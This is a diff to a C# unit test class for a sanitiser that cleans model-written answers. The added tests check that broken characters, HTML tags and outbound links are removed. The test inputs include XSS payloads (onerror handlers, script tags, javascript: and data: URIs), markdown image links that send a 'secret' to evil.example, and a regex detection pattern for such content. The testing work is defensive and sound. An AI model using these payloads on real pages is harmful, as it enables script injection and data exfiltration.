@@ -74,6 +74,44 @@ public sealed class ReadingAnAnswer
             .Asks.ShouldBeEmpty();
     }
 
+    [Theory]
+    [InlineData("""{"summary": "\ud800"}"""), InlineData("""{"\ud800": 1}"""), InlineData("""{"ask": [{"tool": "\ud800"}], "evidence": ["\ud800"]}""")]
+    public void Passes_over_broken_characters(string answer) => AnswerReading.Read(answer, Facts, wantsDraft: false).Problem.ShouldBe("The answer has no summary.");
+
+    [Fact]
+    public void Finds_the_summary_beside_broken_characters() =>
+        AnswerReading.Read("""{"\udc00": 1, "summary": "s", "confidence": 0.1, "suggestedActions": ["\ud800", "a"]}""", Facts, wantsDraft: false).Finding!.ShouldSatisfyAllConditions(
+            one => one.Summary.ShouldBe("s"), one => one.Confidence.ShouldBe(0.1), one => one.SuggestedActions.ShouldBe(["a"]));
+
+    [Fact]
+    public void Takes_nothing_that_cannot_be_stored() =>
+        Read(new { ask = new[] { new { tool = "a\0", input = "b\0" } } }).Asks.ShouldBe([new ToolRequest("a\uFFFD", "b\uFFFD")]);
+
+    [Theory]
+    [InlineData("<<b>img src=x onerror=f()>", "< img src=x onerror=f()>")]
+    [InlineData("<<b></b>!-- x", "< !-- x")]
+    [InlineData("![x][1]\n\n[1]: //evil.example/?d=secret", "! [x][1]\n\n[1] : [address removed]")]
+    [InlineData("![a[b]c](//evil.example/a)", "! [a[b]c] ([address removed])")]
+    [InlineData("see https:/\\evil.example and /\\evil.example", "see [address removed] and [address removed]")]
+    [InlineData("https://[2001:db8::1]/x", "[address removed]]/x")]
+    [InlineData("https://ci.example.co/build", "[address removed]")]
+    [InlineData("https://ci.example.co", "[address removed]")]
+    [InlineData("https://ci.example.com/", "https://ci.example.com/")]
+    [InlineData("rate(x[5m]) < 5 // comment", "rate(x[5m]) < 5 // comment")]
+    public void Leaves_nothing_that_a_page_would_follow(string said, string shown) => Read(new { summary = said }).Finding!.Summary.ShouldBe(shown);
+
+    [Fact]
+    public void Leaves_neither_tags_nor_addresses_whatever_it_is_made_of() => Gen.OneOf(new[]
+    {
+        "<", ">", "/", "//", "\\", "!", "[", "]", "(", ")", ":", "b", "img", "https:", "javascript:", "data:", "www.", "evil.example", "1", " ", "\n", "\u200b", ".", "https://ci.example.com/build/7",
+    }.Select(Gen.Const).ToArray()).Array.Sample(parts =>
+    {
+        var text = new PlainText(Facts).Of(string.Concat(parts), 1_000) ?? "";
+
+        System.Text.RegularExpressions.Regex.IsMatch(text, @"<[\p{L}/!?]|\]\(|\]:|!\[").ShouldBeFalse(text);
+        System.Text.RegularExpressions.Regex.IsMatch(text.Replace("https://ci.example.com/build/7", "", StringComparison.Ordinal), @"https?://\w+\.|//evil|www\.evil|javascript:\w|data:\w").ShouldBeFalse(text);
+    });
+
     [Fact]
     public void Wants_a_draft_where_one_was_asked_for()
     {
@@ -88,7 +126,7 @@ public sealed class ReadingAnAnswer
     [InlineData("[the build](https://ci.example.com/build/7)", "the build (https://ci.example.com/build/7)")]
     [InlineData("a <img src=x onerror=alert(1)> b <b>c</b>", "a  b c")]
     [InlineData("<script>steal()</script>ok", "steal()ok")]
-    [InlineData("x javascript:alert(1) y", "x [address removed](1) y")]
+    [InlineData("x javascript:alert(1) y", "x [address removed] (1) y")]
     [InlineData("data:text/html;base64,AAAA", "[address removed]")]
     [InlineData("www.evil.example/path", "[address removed]")]
     [InlineData("a\u202eb\u200bc\u0007d", "abcd")]
